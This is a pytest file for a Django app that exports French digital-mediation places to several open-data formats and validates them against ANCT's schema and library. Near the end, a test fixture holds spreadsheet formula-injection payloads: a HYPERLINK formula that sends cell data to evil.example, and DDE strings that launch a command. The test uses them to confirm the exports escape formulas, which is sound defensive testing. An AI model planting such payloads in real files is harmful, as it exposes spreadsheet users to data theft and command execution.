import csv
import io
import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import jsonschema
import pytest
from django.core.management import call_command
from frictionless import Resource, Schema

from places import standard, vocabularies
from places.exports import FORMATS, exportable_places
from places.formats import profiles
from places.importer import PlaceImporter
from places.models import Place, Stop
from places.search.criteria import Search
from places.search.engine import find
from places.vocabularies import FormationLabel, Service, Vocabulary
from tests.places.factories import PlaceFactory

DATA = Path(__file__).resolve().parents[2] / "places" / "data"
REAL_FILES = sorted((DATA / "real").glob("*.json"))
FRANCE_SERVICES = DATA / "real" / "france-services" / "liste-fs-20240801.csv"
RAW_SOURCES = Path(__file__).resolve().parents[3] / "shared" / "data" / "real" / "raw-sources"


def export(format_name: str, places=None) -> str:
    """The file of these places, or of every published place as the site's download writes it."""
    if places is None:
        places = exportable_places(find(Search(order="id")))
    return "".join(FORMATS[format_name].lines(places))


def import_real_files():
    for path in REAL_FILES:
        PlaceImporter(origin=path.stem.split("_")[0]).run(path)


@pytest.fixture
def demo_data():
    """What `make run` shows: synthetic places (with buses and their stops), the real files and the national
    list of France Services."""
    call_command("load_programmes", verbosity=0)
    call_command("generate_places", count=300, seed=7, verbosity=0)
    import_real_files()
    PlaceImporter(origin="france-services", profile=profiles.load("france-services")).run(FRANCE_SERVICES)
    if RAW_SOURCES.is_dir():  # ANCT's raw département and hub files, through their mednum-cli configurations
        for source in ("gironde", "maine-et-loire", "hub-lo"):
            profile = profiles.load(str(RAW_SOURCES / f"{source}.config.json"))
            PlaceImporter(origin=source, profile=profile).run(RAW_SOURCES / f"{source}.json")


# The official schema's pattern of formations_labels spells one value "Étapes numériques\(La Poste\)", without
# the space that its own description, ANCT's library and ANCT's configurations write: we write the space, and
# validate against the schema with that one pattern corrected (docs/data.md, "Étapes numériques").
_SCHEMA_BUG = (r"Étapes numériques\\(La Poste\\)", r"Étapes numériques \\(La Poste\\)")


def official_schema(corrected: bool = True) -> Schema:
    text = (DATA / "schema-v1.0.2.json").read_text()
    if corrected:
        assert _SCHEMA_BUG[0] in text, "the schema's known bug is gone: drop the correction"
        text = text.replace(*_SCHEMA_BUG)
    return Schema.from_descriptor(json.loads(text))


def validate_against_the_official_schema(path: Path, corrected: bool = True):
    schema = official_schema(corrected)
    # frictionless refuses absolute paths as unsafe: give it the folder and the file name.
    report = Resource(path=path.name, basepath=str(path.parent), schema=schema).validate()
    return report.flatten(["rowNumber", "fieldName", "type", "note"])


def test_the_csv_export_of_the_demo_data_validates_against_the_official_schema_with_no_error(
    demo_data, tmp_path
):
    path = tmp_path / "lieux.csv"
    call_command("export_places", "--format", "csv", "--output", str(path))

    errors = validate_against_the_official_schema(path)

    assert errors == []
    with open(path, encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == standard.COLUMNS
    assert len(rows) - 1 >= Place.objects.published().canonical().count()


def test_the_schema_check_would_catch_a_bad_file(tmp_path):
    # The validation above must be able to fail: a phone in national form and a missing pivot.
    path = tmp_path / "bad.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(standard.COLUMNS)
        row = dict.fromkeys(standard.COLUMNS, "")
        row.update(id="1", nom="X", commune="Y", code_postal="03100", adresse="Z", date_maj="2024-01-01")
        row["telephone"] = "04 70 00 00 00"
        writer.writerow([row[c] for c in standard.COLUMNS])
    fields = {error[1] for error in validate_against_the_official_schema(path)}
    assert fields == {"pivot", "telephone"}


def test_the_label_the_schemas_pattern_misspells_is_written_as_anct_and_the_schemas_description_spell_it(
    tmp_path,
):
    place = Place.objects.create(
        origin="t",
        origin_id="1",
        name="Bureau de poste",
        commune_name="Moulins",
        postcode="03000",
        address="1 rue d'Allier",
        status=Place.Status.PUBLISHED,
    )
    place.set_tags(Vocabulary.FORMATIONS_LABELS, [FormationLabel.ETAPES_NUMERIQUES])
    path = tmp_path / "lieux.csv"
    path.write_text(export("csv"), encoding="utf-8")
    assert "Étapes numériques (La Poste)" in path.read_text(encoding="utf-8")
    assert validate_against_the_official_schema(path) == []
    # The schema as published refuses it: its pattern lacks the space (a known bug, docs/data.md).
    assert [error[1] for error in validate_against_the_official_schema(path, corrected=False)] == [
        "formations_labels"
    ]


def test_typologie_is_written_as_codes_as_the_standards_consumers_expect(demo_data):
    """The schema has no pattern for typologie: frictionless would let labels through, ANCT's library not."""
    rows = list(csv.DictReader(io.StringIO(export("csv"))))
    written = {value for row in rows for value in row["typologie"].split("|") if value}
    assert written and written <= set(vocabularies.CHOICES_OF[Vocabulary.TYPOLOGIE].values)
    assert "RFS" in written and "Réseau France Services" not in written


def test_exports_hold_published_places_once_and_no_draft(demo_data):
    draft = Place.objects.filter(status=Place.Status.DRAFT).first()
    duplicate = Place.objects.filter(duplicate_of__isnull=False).first()
    ids = {record["id"] for record in json.loads(export("json"))}
    assert f"{draft.origin}--{draft.origin_id}" not in ids
    if duplicate:
        assert f"{duplicate.origin}--{duplicate.origin_id}" not in ids
        assert f"{duplicate.duplicate_of.origin}--{duplicate.duplicate_of.origin_id}" in ids


def test_each_stop_of_a_bus_is_a_record_of_its_own(demo_data):
    bus = Place.objects.published().filter(stops__isnull=False).distinct().first()
    records = json.loads(
        export("json", [place for place in find(Search(order="id"))[0:1000] if place.pk == bus.pk])
    )
    assert len(records) == 1 + bus.stops.count()
    stop = bus.stops.order_by("position").first()
    [stop_record] = [r for r in records if r["id"].endswith(f"--arret-{stop.position}")]
    assert (stop_record["latitude"], stop_record["horaires"]) == (stop.latitude, stop.opening_hours)
    assert stop_record["itinerance"] == ["Itinérant"]


def test_json_uses_the_standards_names_and_values(tmp_path):
    PlaceImporter(origin="exemple").run(DATA / "exemple-valide.csv")
    [record] = json.loads(export("json"))
    assert list(record) == standard.COLUMNS
    assert record["services"] == [
        "Maîtrise des outils numériques du quotidien",
        "Insertion professionnelle via le numérique",
        "Loisirs et créations numériques",
    ]
    assert record["id"] == "exemple--structure-1"


def test_geojson_is_a_feature_collection_of_points(demo_data):
    collection = json.loads(export("geojson"))
    assert collection["type"] == "FeatureCollection"
    feature = collection["features"][0]
    assert feature["geometry"]["type"] == "Point"
    longitude, latitude = feature["geometry"]["coordinates"]
    assert (latitude, longitude) == (feature["properties"]["latitude"], feature["properties"]["longitude"])


def test_data_inclusion_structures_validate_against_its_schema(demo_data):
    schema = json.loads((DATA / "data-inclusion" / "data-inclusion_v1.0.8_structure.json").read_text())
    structures = json.loads(export("data-inclusion"))
    validator = jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker())
    errors = [f"{s['id']}: {e.message}" for s in structures for e in validator.iter_errors(s)]
    assert errors == []
    france_services = [
        s for s in structures if s["reseaux_porteurs"] and "france-service" in s["reseaux_porteurs"]
    ]
    assert france_services


def test_import_export_import_gives_the_same_places_field_for_field(tmp_path, django_db_blocker):
    import_real_files()
    first = tmp_path / "first.csv"
    first.write_text(export("csv"), encoding="utf-8")
    first_rows = {row["id"]: row for row in csv.DictReader(io.StringIO(first.read_text()))}

    Place.objects.all().delete()
    PlaceImporter(origin="again").run(first)
    second_rows = {
        row["id"].removeprefix("again--"): row for row in csv.DictReader(io.StringIO(export("csv")))
    }

    assert second_rows.keys() == first_rows.keys()
    for place_id, row in first_rows.items():
        assert {**second_rows[place_id], "id": place_id} == row


def test_the_export_command_writes_every_format(tmp_path):
    Place.objects.create(
        origin="t",
        origin_id="1",
        name="EPN",
        commune_name="Moulins",
        postcode="03000",
        address="1 rue",
        latitude=46.56,
        longitude=3.33,
        status=Place.Status.PUBLISHED,
    ).set_tags(Vocabulary.SERVICES, [Service.DEMARCHES])
    for name in FORMATS:
        path = tmp_path / f"out.{name}"
        call_command("export_places", "--format", name, "--output", str(path))
        assert "EPN" in path.read_text(encoding="utf-8")


def test_stops_are_exported_with_their_own_address():
    place = Place.objects.create(
        origin="t",
        origin_id="bus",
        name="Bus France Services",
        commune_name="Moulins",
        postcode="03000",
        address="Dépôt",
        latitude=46.56,
        longitude=3.33,
        status=Place.Status.PUBLISHED,
    )
    place.set_tags(Vocabulary.ITINERANCE, ["itinerant"])
    Stop.objects.create(
        place=place, position=1, name="Mairie", address="Place de la mairie", latitude=46.6, longitude=3.4
    )
    records = json.loads(export("json"))
    assert [r["adresse"] for r in records] == ["Dépôt", "Place de la mairie"]


def test_the_national_export_command_writes_the_sites_download_byte_for_byte(client, demo_data, tmp_path):
    """The command reads the database in chunks, the site's download reads through the search index."""
    call_command("export_places", "--format", "csv", "--output", str(tmp_path / "lieux.csv"))
    download = b"".join(client.get("/exports/lieux.csv").streaming_content).decode()
    assert (tmp_path / "lieux.csv").read_text(encoding="utf-8") == download
    assert download.count("\n") > 300


# --- ANCT's library: what the national pipeline accepts ------------------------------------------------

LMN = "@gouvfr-anct/lieux-de-mediation-numerique@2.3.0"
LMN_DIR = Path(__file__).resolve().parents[2] / ".cache" / "lmn"
LMN_SCRIPT = Path(__file__).resolve().parent / "lmn" / "validate.cjs"


@pytest.fixture(scope="session")
def anct_library() -> tuple[str, Path]:
    """node and ANCT's library, installed from the npm registry once into .cache/lmn (CI installs it)."""
    node, npm = shutil.which("node"), shutil.which("npm")
    if not node or not npm:
        pytest.skip(f"Node.js (node and npm) is needed to check the export with ANCT's library ({LMN}).")
    modules = LMN_DIR / "node_modules"
    if not (modules / "@gouvfr-anct" / "lieux-de-mediation-numerique").is_dir():
        LMN_DIR.mkdir(parents=True, exist_ok=True)
        installed = subprocess.run(
            [npm, "install", "--prefix", str(LMN_DIR), "--no-audit", "--no-fund", LMN],
            capture_output=True,
            text=True,
            timeout=600,
        )
        if installed.returncode != 0:
            pytest.skip(f"npm could not install {LMN} (no registry here?): {installed.stderr[-300:]}")
    return node, modules


# The schema wants numbers without spaces and French Polynesia's have 8 digits (+68940123456); the library's
# pattern reads 8 digits only with spaces ("+689 40 123 456"). The schema wins; the gap is in docs/data.md.
_POLYNESIAN_PHONE = re.compile(r"Le telephone \+689\d{8} n'est pas valide")


def test_anct_library_accepts_every_record_of_the_json_export(demo_data, anct_library, tmp_path):
    node, modules = anct_library
    path = tmp_path / "lieux.json"
    path.write_text(export("json"), encoding="utf-8")
    checked = subprocess.run(
        [node, str(LMN_SCRIPT), str(path)],
        capture_output=True,
        text=True,
        timeout=300,
        env={**os.environ, "NODE_PATH": str(modules)},
    )
    assert checked.returncode == 0, checked.stderr
    result = json.loads(checked.stdout)
    refused = [r for r in result["refused"] if not _POLYNESIAN_PHONE.search(r["error"])]
    assert refused == [], json.dumps(refused, indent=1, ensure_ascii=False)
    assert result["total"] >= Place.objects.published().canonical().count() > 3000


def test_anct_library_check_would_catch_a_label_where_a_code_is_due(anct_library, tmp_path):
    node, modules = anct_library
    record = json.loads(export("json", [_a_place()]))[0]
    record["typologie"] = ["Municipalités"]
    path = tmp_path / "lieux.json"
    path.write_text(json.dumps([record]), encoding="utf-8")
    checked = subprocess.run(
        [node, str(LMN_SCRIPT), str(path)],
        capture_output=True,
        text=True,
        env={**os.environ, "NODE_PATH": str(modules)},
    )
    assert "typologie" in json.loads(checked.stdout)["refused"][0]["error"]


def test_addresses_and_communes_are_written_in_the_characters_anct_library_reads():
    place = _a_place()
    place.address = '7-11 rue Joseph Brunet "le cerisier"'
    place.commune_name = "Château-Chinon (Ville)"
    place.save()
    record = json.loads(export("json", [place]))[0]
    assert (record["adresse"], record["commune"]) == (
        "7-11 rue Joseph Brunet le cerisier",
        "Château-Chinon Ville",
    )


def _a_place() -> Place:
    place = Place.objects.create(
        origin="t",
        origin_id="1",
        name="Mairie",
        commune_name="Moulins",
        postcode="03000",
        address="1 rue",
        status="published",
    )
    place.set_tags(Vocabulary.SERVICES, [Service.DEMARCHES])
    place.set_tags(Vocabulary.TYPOLOGIE, ["MUNI"])
    return place


HOSTILE_CELLS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "address": "+1+cmd|' /C calc'!A0",
    "summary": "-2+3+cmd|' /C calc'!A0",
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _rows_of_every_csv(client, tmp_path) -> list[dict]:
    """The place as written by each of the three CSVs: API `format=csv`, the site's download, the command."""
    call_command("export_places", "--format", "csv", "--output", str(tmp_path / "lieux.csv"))
    texts = [
        (tmp_path / "lieux.csv").read_text(encoding="utf-8"),
        b"".join(client.get("/exports/lieux.csv").streaming_content).decode(),
        b"".join(client.get("/api/v1/places/", {"format": "csv"}).streaming_content).decode(),
    ]
    return [next(csv.DictReader(io.StringIO(text))) for text in texts]


def test_no_csv_opens_a_cell_as_a_spreadsheet_formula(client, tmp_path):
    PlaceFactory(**HOSTILE_CELLS, phone="+33180050000", longitude=-1.5536)
    for row in _rows_of_every_csv(client, tmp_path):
        assert row["nom"] == "'" + HOSTILE_CELLS["name"]
        assert row["adresse"] == "'" + HOSTILE_CELLS["address"]
        assert row["presentation_resume"] == "'" + HOSTILE_CELLS["summary"]
        assert row["presentation_detail"] == "'" + HOSTILE_CELLS["description"]
        # Plain numbers are data, not formulas: written as they are.
        assert row["telephone"] == "+33180050000"
        assert row["longitude"] == "-1.5536"
